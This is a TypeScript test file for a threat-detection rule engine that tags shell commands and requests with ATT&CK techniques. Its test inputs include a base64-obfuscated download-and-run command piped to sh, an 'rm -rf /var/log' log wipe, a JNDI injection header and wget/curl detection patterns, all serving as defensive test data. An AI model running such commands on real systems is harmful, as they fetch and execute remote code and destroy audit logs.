import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { commandEvent, fieldsOf, rulesetOf, testEvent } from '../../test/support/tagging.js'
import type { Payload } from '../events/tagger-event.js'
import type { Condition } from './condition.js'
import { findMatches } from './find-matches.js'
import { traceCondition } from './trace.js'

function conditionOf(match: string, appliesTo = 'command'): Condition {
  const emits = '{ tactic: TA0011, technique_id: T1105, confidence: 0.9 }'
  const rule = [...rulesetOf({ match, appliesTo, emits }).rules.values()][0]!
  if (rule.match.kind !== 'condition') throw new Error('expected a condition')
  return rule.match.condition
}

function holds(match: string, command: string): boolean {
  const condition = conditionOf(match)
  const fields = fieldsOf(commandEvent(command))
  const answer = condition.holds(fields)
  expect(traceCondition(condition, fields).holds).toBe(answer)
  return answer
}

function holdsFor(match: string, sourceKind: string, payload: Payload): boolean {
  return conditionOf(match, sourceKind).holds(fieldsOf(testEvent({ sourceKind, payload })))
}

describe('text operators', () => {
  it.each([
    ['contains', 'WGET', 'x wget y', true],
    ['contains', 'a.c', 'abc', false],
    ['starts_with', 'wget', 'wget x', true],
    ['starts_with', 'get', 'wget x', false],
    ['ends_with', '.sh', 'sh x.SH', true],
    ['ends_with', '.sh', 'sh x.shy', false],
    ['equals', 'uname -a', 'uname -a', true],
    ['equals', 'uname', 'uname -a', false],
    ['one_of', 'id', 'id', true],
    ['pattern', 'w\\w+t', 'wget', true],
  ])('%s %s on «%s»: %s', (operator, value, command, expected) => {
    expect(holds(`{ field: command_text, ${operator}: '${value}' }`, command)).toBe(expected)
  })

  it('mind case only if told to', () => {
    expect(holds('{ field: command_text, contains: WGET, cased: true }', 'wget x')).toBe(false)
    expect(holds('{ field: command_text, contains: WGET, cased: true }', 'WGET x')).toBe(true)
  })

  it('take a list as any of', () => {
    expect(holds('{ field: command_text, starts_with: [curl, wget] }', 'wget x')).toBe(true)
    expect(holds('{ field: command_text, starts_with: [curl, wget] }', 'ls')).toBe(false)
  })

  it('take every character literally, except in patterns', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 20 }), (text) => {
        fc.pre(!/\p{Surrogate}/u.test(text))
        const condition = conditionOf(`{ field: url, equals: ${JSON.stringify(text)} }`, 'payload')
        expect(condition.holds(fieldsOf(testEvent({ sourceKind: 'payload', payload: { url: text } })))).toBe(true)
      }),
    )
  })
})

describe('a list of patterns', () => {
  it('keeps the flags of one from the others', () => {
    expect(holds("{ field: command_text, pattern: ['(?-i)Foo', 'wget'] }", 'WGET x')).toBe(true)
    expect(holds("{ field: command_text, pattern: ['(?-i)Foo', 'wget'] }", 'foo')).toBe(false)
  })
})

describe('other operators', () => {
  it.each([
    ['{ field: size, gt: 10 }', { size: 11 }, true],
    ['{ field: size, gt: 10 }', { size: 10 }, false],
    ['{ field: size, gte: 10 }', { size: 10 }, true],
    ['{ field: size, lt: 10 }', { size: 9.5 }, true],
    ['{ field: size, lte: 10 }', { size: 10.5 }, false],
    ['{ field: size, lte: 10 }', { size: '9' }, false],
    ['{ field: size, lte: 10 }', {}, false],
    ['{ field: success, equals: true }', { success: true }, true],
    ['{ field: success, equals: true }', { success: 'true' }, false],
    ['{ field: url, exists: true }', { url: '' }, true],
    ['{ field: url, exists: true }', {}, false],
    ['{ field: url, exists: false }', { url: null }, true],
    ['{ not: { field: url, contains: x } }', {}, true],
  ])('%s on %j: %s', (match, payload, expected) => {
    expect(holdsFor(match, 'payload', payload)).toBe(expected)
  })

  it.each([
    ['10.1.2.3', true],
    ['11.1.2.3', false],
    ['2001:db8::1', true],
    ['::ffff:10.0.0.1', true],
    ['ten', false],
  ])('cidr on %s: %s', (address, expected) => {
    const match = '{ field: destination_host, cidr: [10.0.0.0/8, 2001:db8::/32] }'
    expect(holdsFor(match, 'service_op', { destination_host: address })).toBe(expected)
  })

  it('reach into maps', () => {
    const payload = { headers: { host: 'decoy', 'x-api': '${jndi:x}' } }
    expect(holdsFor('{ field: headers.host, equals: decoy }', 'http_request', payload)).toBe(true)
    expect(holdsFor('{ field: headers.*, contains: jndi }', 'http_request', payload)).toBe(true)
    expect(holdsFor('{ field: headers.cookie, exists: true }', 'http_request', payload)).toBe(false)
  })

  it('are not fooled by names of Object.prototype', () => {
    expect(holdsFor('{ field: headers.constructor, exists: true }', 'http_request', { headers: {} })).toBe(false)
  })
})

describe('command views', () => {
  it.each([
    ['plain', "w''get http://x"],
    ['a segment', 'cd /tmp && wget http://x'],
    ['hidden text', `echo ${Buffer.from('wget http://203.0.113.9/x').toString('base64')} | base64 -d | sh`],
  ])('a leaf on command_text holds through %s', (_, command) => {
    expect(holds("{ field: command_text, pattern: '^wget\\b' }", command)).toBe(true)
  })

  it('a segment condition needs one and the same segment', () => {
    const match = '{ segment: { all: [{ field: name, equals: rm }, { field: arguments, contains: /var/log }] } }'
    expect(holds(match, 'cd /tmp; rm -rf /var/log')).toBe(true)
    expect(holds(match, 'rm -rf /tmp/x; ls /var/log')).toBe(false)
  })

  it('a negated leaf inside a segment speaks of that segment', () => {
    const match = '{ segment: { all: [{ field: name, equals: ls }, { not: { field: arguments, contains: -l } }] } }'
    expect(holds(match, 'ls -l; ls')).toBe(true)
    expect(holds(match, 'ls -l')).toBe(false)
  })

  it('a segment condition never holds where there is no segment', () => {
    expect(holds('{ segment: { not: { field: name, equals: ls } } }', '')).toBe(false)
  })
})

describe('findMatches', () => {
  it('gives byte offsets in the view, also behind characters of several bytes', () => {
    const condition = conditionOf('{ field: command_text, contains: wget }')
    const command = 'echo «é»; wget x'
    const [match] = findMatches(condition, fieldsOf(commandEvent(command)))
    expect(match).toMatchObject({ field: 'command_text', view: 'typed', segment: null })
    expect(Buffer.from(command).toString('utf8', match!.start, match!.end)).toBe('wget')
  })

  it('leaves out what is negated and what does not hold', () => {
    const condition = conditionOf(
      '{ all: [{ field: command_text, contains: wget }, { not: { field: command_text, contains: curl } }, { any: [{ field: service, equals: ssh }, { field: command_text, contains: x }] }] }',
    )
    const matches = findMatches(condition, fieldsOf(commandEvent('wget x')))
    expect(matches.map((match) => [match.start, match.end])).toEqual([
      [0, 4],
      [5, 6],
    ])
  })

  it('names the segment', () => {
    const condition = conditionOf('{ segment: { field: name, equals: wget } }')
    const matches = findMatches(condition, fieldsOf(commandEvent('cd /tmp; wget x')))
    expect(matches).toEqual([{ field: 'segment.name', view: 'segment', segment: 1, start: 0, end: 4 }])
  })
})
